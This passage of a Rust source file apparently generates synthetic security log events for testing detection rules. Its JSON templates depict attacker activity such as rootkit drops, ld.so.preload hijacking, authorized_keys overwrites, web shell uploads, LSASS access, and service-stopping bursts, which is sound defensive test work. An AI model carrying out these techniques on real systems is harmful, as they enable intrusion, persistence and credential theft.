        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"cp","process.executable":"/usr/bin/cp","file.path":"/tmp/rk-{V}.ko","file.name":"rk-{V}.ko","file.extension":"ko"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"cp","process.executable":"/usr/bin/cp","file.path":"/usr/lib/libx-{V}.so","file.name":"libx-{V}.so","file.extension":"so"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["change"],"event.action":"rename","process.name":"mv","process.executable":"/usr/bin/mv","file.path":"/etc/ld.so.preload","file.name":"ld.so.preload"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["change"],"event.action":"overwrite","process.name":"sh","process.executable":"/tmp/.{V}/sh","file.path":"/root/.ssh/authorized_keys","file.name":"authorized_keys"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["change"],"event.action":"modification","process.name":"node","process.executable":"/tmp/.{V}/node","file.path":"/home/dev/.cursor/mcp.json","file.name":"mcp.json","file.extension":"json"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"php-fpm8.2","process.executable":"/usr/sbin/php-fpm8.2","file.path":"/var/www/html/uploads/{V}.php","file.name":"{V}.php","file.extension":"php"}"#,
    ),
    nt(
        "system.auth",
        "linux",
        r#"{"event.category":["authentication"],"event.type":["start"],"event.action":"ssh_login","event.outcome":"success","user.name":"ops-{V}","process.name":"sshd","source.ip":"{P}","related.ip":["{P}"],"related.user":["ops-{V}"],"system.auth.ssh.method":"publickey","system.auth.ssh.signature":"ED25519 SHA256:Xq{V}Zt7kM2v9"}"#,
    ),
    nt(
        "system.auth",
        "linux",
        r#"{"event.category":["authentication"],"event.type":["start"],"event.action":"ssh_login","event.outcome":"success","user.name":"games","process.name":"sshd","source.ip":"{P}","system.auth.ssh.method":"password"}"#,
    ),
    nt(
        "auditd_manager.auditd",
        "linux",
        r#"{"event.category":["process"],"event.action":"mprotect","auditd.data.syscall":"mprotect","auditd.data.a2":"7","process.name":"ld-{V}","process.executable":"/tmp/.{V}/ld"}"#,
    ),
    nt(
        "auditd_manager.auditd",
        "linux",
        r#"{"event.category":["authentication"],"event.type":["start"],"event.action":"authenticated","event.outcome":"success","auditd.data.grantors":"pam_unix,pam_{V}"}"#,
    ),
    // Linux thresholds: a ping sweep, processes killed in a row.
    thr(
        100,
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"ping","process.executable":"/usr/bin/ping","process.args":["ping","-c","1","10.20.1.{I}"],"process.command_line":"ping -c 1 10.20.1.{I}","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash","process.parent.entity_id":"sweep{V}"}"#,
    ),
    thr(
        15,
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"kill","process.executable":"/usr/bin/kill","process.args":["kill","-9","{I}00"],"process.command_line":"kill -9 {I}00","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    // macOS endpoint.
    nt(
        "endpoint.events.network",
        "macos",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"connection_attempted","process.name":"ollama","process.executable":"/Applications/Ollama.app/Contents/Resources/ollama","destination.domain":"models-{V}.example.top","destination.ip":"{P}","destination.port":443}"#,
    ),
    nt(
        "endpoint.events.network",
        "macos",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"connection_attempted","process.name":"curl","process.executable":"/usr/bin/curl","destination.domain":"slack-files.com","destination.ip":"{P}","destination.port":443}"#,
    ),
    nt(
        "endpoint.events.file",
        "macos",
        r#"{"event.category":["file"],"event.type":["access"],"event.action":"open","process.name":"python3","process.executable":"/usr/bin/python3","file.path":"/Users/dev/Library/Keychains/login.keychain-db","file.name":"login.keychain-db"}"#,
    ),
    nt(
        "endpoint.events.process",
        "macos",
        r#"{"process.name":"sh","process.executable":"/bin/sh","process.args":["sh","-c","id"],"process.command_line":"sh -c id","process.parent.name":"python3","process.parent.executable":"/usr/bin/python3"}"#,
    ),
    nt(
        "endpoint.events.file",
        "macos",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"launch_daemon","process.name":"python3","process.executable":"/usr/bin/python3","file.path":"/Library/LaunchDaemons/com.{V}.plist","file.name":"com.{V}.plist"}"#,
    ),
    // macOS threshold: SSH password guessing.
    thr(
        20,
        "endpoint.events.process",
        "macos",
        r#"{"user.name":"root","process.name":"sshd-keygen-wrapper","process.executable":"/usr/libexec/sshd-keygen-wrapper","process.args":["/usr/libexec/sshd-keygen-wrapper"],"process.parent.name":"launchd","process.parent.executable":"/sbin/launchd"}"#,
    ),
    // Windows endpoint.
    nt(
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"AnyDesk.exe","process.executable":"C:\\Users\\Public\\AnyDesk.exe","process.code_signature.subject_name":"{S}","process.code_signature.trusted":true,"process.parent.name":"explorer.exe"}"#,
    ),
    nt(
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"MSBuild.exe","process.pe.original_file_name":"MSBuild.exe","process.executable":"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe","process.args":["MSBuild.exe","C:\\Users\\Public\\b.xml"],"process.command_line":"MSBuild.exe C:\\Users\\Public\\b.xml","process.parent.name":"cmd.exe"}"#,
    ),
    nt(
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"csc.exe","process.executable":"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe","process.command_line":"csc.exe /noconfig @C:\\Users\\Public\\x.cmdline","process.parent.name":"MSBuild.exe"}"#,
    ),
    nt(
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"cmd.exe","process.executable":"C:\\Windows\\System32\\cmd.exe","process.args":["cmd.exe","/c","whoami"],"process.command_line":"cmd.exe /c whoami > C:\\Windows\\Temp\\{V}.txt","process.parent.name":"svchost.exe"}"#,
    ),
    nt(
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"cmd.exe","process.pe.original_file_name":"Cmd.Exe","process.executable":"C:\\Windows\\System32\\cmd.exe","process.args":["cmd.exe","/c","whoami"],"process.command_line":"cmd.exe /c whoami","process.parent.name":"sqlservr.exe"}"#,
    ),
    nt(
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"cmd.exe","process.executable":"C:\\Windows\\System32\\cmd.exe","process.args":["cmd.exe","/c","net","user"],"process.command_line":"cmd.exe /c net user","process.parent.name":"w3wp.exe"}"#,
    ),
    nt(
        "endpoint.events.file",
        "windows",
        r#"{"event.category":["file"],"event.type":["access"],"event.action":"open","process.name":"{V}.exe","process.executable":"C:\\Users\\Public\\{V}.exe","file.name":"web.config","file.path":"C:\\inetpub\\VirtualDirectories\\app\\web.config"}"#,
    ),
    nt(
        "endpoint.events.file",
        "windows",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"dns.exe","process.executable":"C:\\Windows\\System32\\dns.exe","file.name":"{V}.dll","file.path":"C:\\Windows\\System32\\dns\\{V}.dll","file.extension":"dll"}"#,
    ),
    nt(
        "endpoint.events.library",
        "windows",
        r#"{"event.category":["library"],"event.type":["start"],"event.action":"load","process.name":"{V}.exe","process.executable":"C:\\Users\\Public\\{V}.exe","process.code_signature.trusted":false,"dll.name":"System.Management.Automation.dll","dll.path":"C:\\Windows\\assembly\\System.Management.Automation.dll"}"#,
    ),
    nt(
        "endpoint.events.library",
        "windows",
        r#"{"event.category":["driver"],"event.type":["start"],"event.action":"load","dll.name":"{V}.sys","dll.pe.original_file_name":"{V}.sys","dll.code_signature.subject_name":"Example Drivers Ltd","dll.path":"C:\\Windows\\System32\\drivers\\{V}.sys"}"#,
    ),
    nt(
        "endpoint.events.network",
        "windows",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"connection_attempted","process.name":"System","process.pid":4,"network.transport":"tcp","source.ip":"10.1.4.17","destination.ip":"{P}","destination.port":445}"#,
    ),
    nt(
        "endpoint.events.registry",
        "windows",
        r#"{"event.category":["registry"],"event.type":["change"],"event.action":"modification","registry.value":"FriendlyName","registry.path":"HKLM\\SYSTEM\\ControlSet001\\Enum\\USBSTOR\\Disk&Ven_{V}&Prod_Flash\\0001\\FriendlyName","process.name":"svchost.exe"}"#,
    ),
    nt(
        "endpoint.events.device",
        "windows",
        r#"{"event.category":["host"],"event.type":["device"],"event.action":"mount","event.outcome":"success","volume.removable":true,"device.serial_number":"SN-{V}","device.vendor":"Example"}"#,
    ),
    // Windows security log.
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4662","event.action":"object-operation-performed","winlog.event_data.Properties":"%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}","winlog.event_data.AccessMask":"0x100","winlog.event_data.ObjectName":"%{DC=example,DC=com}"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4769","event.category":["authentication"],"winlog.event_data.Status":"0x0","winlog.event_data.TicketEncryptionType":"0x17","winlog.event_data.TargetUserName":"ops-{V}@EXAMPLE.COM","winlog.event_data.ServiceName":"MSSQLSvc","source.ip":"10.1.4.40"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4656","winlog.event_data.AccessMask":"0x1010","winlog.event_data.ObjectType":"Process","winlog.event_data.ObjectName":"\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe","winlog.event_data.ProcessName":"C:\\Users\\Public\\dump-{V}.exe"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4799","event.category":["iam"],"event.action":"user-member-enumerated","group.name":"Administrators","winlog.event_data.TargetSid":"S-1-5-32-544","winlog.event_data.CallerProcessName":"C:\\Users\\Public\\{V}.exe"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4624","event.category":["authentication"],"event.action":"logged-in","winlog.logon.type":"NewCredentials","user.id":"S-1-5-21-1004336348-1177238915-682003330-{N}","winlog.event_data.LogonProcessName":"seclogo"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4624","event.category":["authentication"],"event.action":"logged-in","winlog.logon.type":"NewCredentials","winlog.event_data.LogonProcessName":"Advapi  ","process.executable":"C:\\Users\\Public\\{V}.exe","process.name":"{V}.exe"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"4702","event.category":["iam"],"event.action":"scheduled-task-updated","winlog.event_data.TaskName":"\\Microsoft\\Windows\\{V}Update"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"5136","event.action":"directory-service-object-modified","winlog.event_data.AttributeLDAPDisplayName":"msDS-ManagedAccountPrecededByLink","winlog.event_data.ObjectDN":"CN=dmsa-{V},CN=Managed Service Accounts,DC=example,DC=com"}"#,
    ),
    nt(
        "system.security",
        "winsec",
        r#"{"event.code":"5137","event.action":"directory-service-object-created","winlog.event_data.ObjectClass":"msDS-DelegatedManagedServiceAccount","winlog.event_data.ObjectDN":"CN=dmsa-{V},CN=Managed Service Accounts,DC=example,DC=com"}"#,
    ),
    // Windows thresholds: services stopped in a row, LSASS read twice.
    thr(
        10,
        "endpoint.events.process",
        "windows",
        r#"{"process.name":"net.exe","process.executable":"C:\\Windows\\System32\\net.exe","process.args":["net","stop","Svc{I}","/y"],"process.command_line":"net stop Svc{I} /y","process.parent.name":"cmd.exe"}"#,
    ),
    thr(
        2,
        "windows.sysmon_operational",
        "windows",
        r#"{"event.code":"10","event.action":"ProcessAccess","process.name":"rundll32.exe","process.executable":"C:\\Windows\\System32\\rundll32.exe","process.entity_id":"lsass-reader-{V}","winlog.event_data.TargetImage":"C:\\Windows\\system32\\lsass.exe","winlog.event_data.TargetProcessId":"6{I}4","winlog.event_data.GrantedAccess":"0x1fffff"}"#,
    ),
];

/// Country names, ISO codes and regions for `{C}`, `{Z}` and `{Q}`.
const COUNTRIES: &[(&str, &str, &str)] = &[
    ("Netherlands", "NL", "North Holland"),
    ("Germany", "DE", "Hesse"),
    ("Brazil", "BR", "Sao Paulo"),
    ("Nigeria", "NG", "Lagos"),
    ("Vietnam", "VN", "Hanoi"),
    ("Romania", "RO", "Bucharest"),
    ("Indonesia", "ID", "Jakarta"),
    ("Ukraine", "UA", "Kyiv City"),
    ("Argentina", "AR", "Buenos Aires"),
    ("Turkey", "TR", "Istanbul"),
    ("South Africa", "ZA", "Gauteng"),
    ("Kazakhstan", "KZ", "Almaty"),
];

/// Signers of remote access tools for `{S}` (Windows RMM rules).
const SIGNERS: &[&str] = &[
    "AnyDesk Software GmbH",
    "Atera Networks Ltd",
    "Action1 Corporation",
    "AeroAdmin LLC",
    "Ammyy LLC",
    "BeamYourScreen GmbH",
    "Bomgar Corporation",
    "ConnectWise, LLC",
    "DOMOTZ INC.",
    "Famatech Corp.",
    "FleetDeck Inc",
    "GlavSoft LLC",
    "GoTo Technologies USA, LLC",
    "IDrive, Inc.",
    "ISL Online Ltd.",
    "LogMeIn, Inc.",
    "MMSOFT Design Ltd.",
    "NinjaRMM, LLC",
    "Splashtop Inc.",
    "TeamViewer Germany GmbH",
];

/// Operating systems for `{O}`.
const SYSTEMS: &[&str] = &["Windows", "Mac OS X", "Linux", "iOS", "Android"];

/// Kubernetes resources for `{W}`.
const RESOURCES: &[&str] = &[
    "secrets",
    "configmaps",
    "pods",
    "serviceaccounts",
    "roles",
    "rolebindings",
    "nodes",
    "deployments",
];

/// Which event of which block: the values of the placeholders.
struct Vars {
    /// `base`, `new` or `thr`.
    kind: &'static str,
    round: u64,
    /// The burst's place in [`DEFS`].
    spec: usize,
    /// The history event (0, 1) or the threshold event (1..n); 0 otherwise.
    index: u64,
}

impl Vars {
    /// Writes the value of placeholder `key` (one capital letter) into
    /// `out`; false when `key` is no placeholder.
    fn write(&self, key: u8, time: &str, out: &mut String) -> bool {
        use std::fmt::Write;
        let (r, i) = (self.round, self.index);
        let _ = match (key, self.kind) {
            (b'T', _) => write!(out, "{time}"),
            (b'E', "base") => write!(out, "burst-base-{r}-{}-{i}", self.spec),
            (b'E', "new") => write!(out, "burst-new-{r}-{}", self.spec),
            (b'E', _) => write!(out, "burst-thr-{r}-{}-{i}", self.spec),
            (b'V', "base") => write!(out, "base{i}"),
            (b'V', "new") => write!(out, "new{r}"),
            (b'V', _) => write!(out, "thr{r}"),
            (b'N', "base") => write!(out, "{}", 64_512 + i),
            (b'N', "new") => write!(out, "{}", 4_200_000_000 + r),
            (b'N', _) => write!(out, "64999"),
            (b'P', "base") => write!(out, "81.2.69.{}", 142 + i),
            (b'P', "new") => write!(out, "89.160.{}.{}", 20 + r / 250, 1 + r % 250),
            (b'P', _) => write!(out, "185.220.101.{}", 1 + r % 250),
            (b'L', "base") => write!(out, "10.9.0.{}", 10 + i),
            (b'L', "new") => write!(out, "10.9.{}.{}", 1 + r / 250, 1 + r % 250),
            (b'L', _) => write!(out, "10.9.255.{}", 1 + r % 250),
            (b'G', "base") => write!(out, "6b1a0c3e-5d4f-4e2a-9c1b-{i:012}"),
            (b'G', "new") => write!(out, "6b1a0c3e-5d4f-4e2a-9c1b-1{r:011}"),
            (b'G', _) => write!(out, "6b1a0c3e-5d4f-4e2a-9c1b-2{r:011}"),
            (b'D', "base") => write!(out, "{}", 210_000_000_000 + i),
            (b'D', "new") => write!(out, "{}", 220_000_000_000 + r),
            (b'D', _) => write!(out, "123456789012"),
            (b'C' | b'Z' | b'Q', _) => {
                let n = match self.kind {
                    "base" => i as usize,
                    "new" => 2 + (r % 10) as usize,
                    _ => i as usize,
                };
                let (name, code, region) = COUNTRIES[n % COUNTRIES.len()];
                out.push_str(match key {
                    b'C' => name,
                    b'Z' => code,
                    _ => region,
                });
                Ok(())
            }
            (b'S', _) => {
                let n = match self.kind {
                    "base" => i as usize,
                    "new" => 2 + (r % 18) as usize,
                    _ => 0,
                };
                out.push_str(SIGNERS[n % SIGNERS.len()]);
                Ok(())
            }
            (b'O' | b'W', _) => {
                let n = if self.kind == "new" { r } else { i } as usize;
                let list = if key == b'O' { SYSTEMS } else { RESOURCES };
                out.push_str(list[n % list.len()]);
                Ok(())
            }
            (b'I' | b'K', _) => write!(out, "{i}"),
            (b'R', _) => write!(out, "{r}"),
            _ => return false,
        };
        true
    }
}

/// Expands the dotted keys of `fields` into `into`: `a.b` is member `b`
/// of object `a`; objects merge, other values replace, `null` removes.
pub(super) fn merge(into: &mut Map<String, Value>, fields: &Map<String, Value>) {
    for (key, value) in fields {
        let mut parts = key.split('.').collect::<Vec<_>>();
        let last = parts.pop().expect("split gives one part at least");
        let mut at = &mut *into;
        for p in parts {
            let slot = at
                .entry(p.to_string())
                .or_insert_with(|| Value::Object(Map::new()));
            if !slot.is_object() {
                *slot = Value::Object(Map::new());
            }
            at = slot.as_object_mut().expect("an object");
        }
        match value {
            Value::Null => {
                at.shift_remove(last);
            }
            Value::Object(inner) => {
                let slot = at
                    .entry(last.to_string())
                    .or_insert_with(|| Value::Object(Map::new()));
                if !slot.is_object() {
                    *slot = Value::Object(Map::new());
                }
                merge(slot.as_object_mut().expect("an object"), inner);
            }
            other => {
                at.insert(last.to_string(), other.clone());
            }
        }
    }
}

fn object(text: &str) -> Map<String, Value> {
    match serde_json::from_str(text) {
        Ok(Value::Object(map)) => map,
        other => panic!("a burst template is not a JSON object: {other:?} in {text}"),
    }
}

/// The JSON text of `def`'s events, placeholders unfilled.
fn template(def: &Def) -> String {
    let mut map = Map::new();
    merge(&mut map, &object(&COMMON.replace("{DS}", def.dataset)));
    let base = BASES
        .iter()
        .find(|(name, _)| *name == def.base)
        .unwrap_or_else(|| panic!("no base {}", def.base));
    merge(&mut map, &object(base.1));
    merge(&mut map, &object(def.fields));
    let text = serde_json::to_string(&Value::Object(map)).expect("JSON serializes");
    // Numbers: the placeholder without its quotes.
    text.replace("\"{N}\"", "{N}").replace("\"{K}\"", "{K}")
}

/// Fills the placeholders of `template` into `out`.
fn fill(out: &mut String, template: &str, vars: &Vars, time: &str) {
    let bytes = template.as_bytes();
    let mut done = 0;
    let mut at = 0;
    while let Some(p) = memchr::memchr(b'{', &bytes[at..]).map(|p| p + at) {
        if p + 2 < bytes.len() && bytes[p + 1].is_ascii_uppercase() && bytes[p + 2] == b'}' {
            out.push_str(&template[done..p]);
            if vars.write(bytes[p + 1], time, out) {
                done = p + 3;
            } else {
                done = p;
            }
            at = p + 3;
        } else {
            at = p + 1;
        }
    }
    out.push_str(&template[done..]);
}

/// The bursts' state: their templates and a generator for the time between
/// their events.
pub(super) struct Bursts {
    templates: Vec<String>,
    rng: Rng,
    line: String,
    extras: super::Extras,
    /// The time between the extras' events (a generator of their own, so
    /// that the bursts' times stay as they are).
    extra_rng: Rng,
}

impl Bursts {
    /// The bursts for `seed`, with the `extras` blocks.
    pub(super) fn new(seed: u64, extras: super::Extras) -> Self {
        Bursts {
            templates: DEFS.iter().map(template).collect(),
            rng: Rng::new(seed ^ 0xB0B5_7A11_C0DE_5EED),
            line: String::with_capacity(2048),
            extras,
            extra_rng: Rng::new(seed ^ 0xE7_7A5E_D0C5),
        }
    }

    /// Writes the extras' block at `at` of `round`, if one is due (at most
    /// up to `count` events in all, from output position `i`), advancing
    /// the time `t`; `None` when no extra block is due there.
    fn emit_extra(
        &mut self,
        round: u64,
        at: u64,
        (i, count): (u64, u64),
        t: &mut i64,
        emit: &mut impl FnMut(&str),
    ) -> Option<u64> {
        let rng = &mut self.extra_rng;
        let mut step = || {
            *t += 1 + rng.below(20) as i64;
            *t
        };
        let lines = match at {
            super::intel::THREAT_AT if self.extras.threat_hits => {
                super::intel::hit_events(round, || iso(step()))
            }
            super::defend::DEFEND_AT if self.extras.defend_alerts => {
                super::defend::alerts(round, step)
            }
            _ => return None,
        };
        let mut written = 0;
        for line in lines {
            if i + written >= count {
                break;
            }
            emit(&line);
            written += 1;
        }
        Some(written)
    }

    /// Writes the block due at output position `i`, if one is (at most up
    /// to `count` events in all), advancing the time `t`; the number of
    /// events written.
    pub(super) fn emit_due(
        &mut self,
        i: u64,
        count: u64,
        t: &mut i64,
        emit: &mut impl FnMut(&str),
    ) -> u64 {
        let round = i / PERIOD;
        let at = i % PERIOD;
        if let Some(n) = self.emit_extra(round, at, (i, count), t, emit) {
            return n;
        }
        if ![HISTORY_AT, THRESHOLD_AT, NEW_AT].contains(&at) {
            return 0;
        }
        let mut events: Vec<(usize, Vars)> = Vec::new();
        for (s, def) in DEFS.iter().enumerate() {
            let vars = |kind, index| Vars {
                kind,
                round,
                spec: s,
                index,
            };
            match (def.shape, at) {
                (Shape::NewTerms, HISTORY_AT) => {
                    events.push((s, vars("base", 0)));
                    events.push((s, vars("base", 1)));
                }
                (Shape::NewTerms, NEW_AT) => events.push((s, vars("new", 0))),
                (Shape::Threshold(n), THRESHOLD_AT) => {
                    events.extend((1..=u64::from(n)).map(|k| (s, vars("thr", k))));
                }
                _ => {}
            }
        }
        let mut written = 0;
        for (s, vars) in events {
            if i + written >= count {
                break;
            }
            *t += 1 + self.rng.below(20) as i64;
            self.line.clear();
            fill(&mut self.line, &self.templates[s], &vars, &iso(*t));
            emit(&self.line);
            written += 1;
        }
        written
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_block_fits_before_the_next_position() {
        // The extras' blocks come at fixed places of a round, checked only
        // where no block is being written; every block is shorter than
        // `BLOCK_MAX`, which tells which rounds an output holds whole.
        use super::super::{defend::DEFEND_AT, intel::BLOCK_MAX, intel::THREAT_AT};
        let mut positions = [
            HISTORY_AT,
            THREAT_AT,
            DEFEND_AT,
            THRESHOLD_AT,
            NEW_AT,
            PERIOD,
        ];
        positions.sort_unstable();
        let extras = super::super::Extras {
            threat_hits: true,
            defend_alerts: true,
        };
        let mut bursts = Bursts::new(1, extras);
        let mut t = 0;
        for w in positions.windows(2) {
            let n = bursts.emit_due(w[0], u64::MAX, &mut t, &mut |_| {});
            assert!(n < BLOCK_MAX && w[0] + n < w[1], "block at {} of {n}", w[0]);
        }
    }

    #[test]
    fn every_template_fills_into_json_with_an_index_and_times() {
        for (s, def) in DEFS.iter().enumerate() {
            let template = template(def);
            for kind in ["base", "new", "thr"] {
                let vars = Vars {
                    kind,
                    round: 3,
                    spec: s,
                    index: 1,
                };
                let mut line = String::new();
                fill(&mut line, &template, &vars, "2026-03-01T00:00:00.000Z");
                let v: Value =
                    serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line}"));
                assert!(
                    !line.contains("{V}") && !line.contains("{N}"),
                    "unfilled: {line}"
                );
                assert_eq!(v["_index"], format!("logs-{}-default", def.dataset));
                assert_eq!(v["event"]["ingested"], v["@timestamp"]);
            }
        }
    }
}
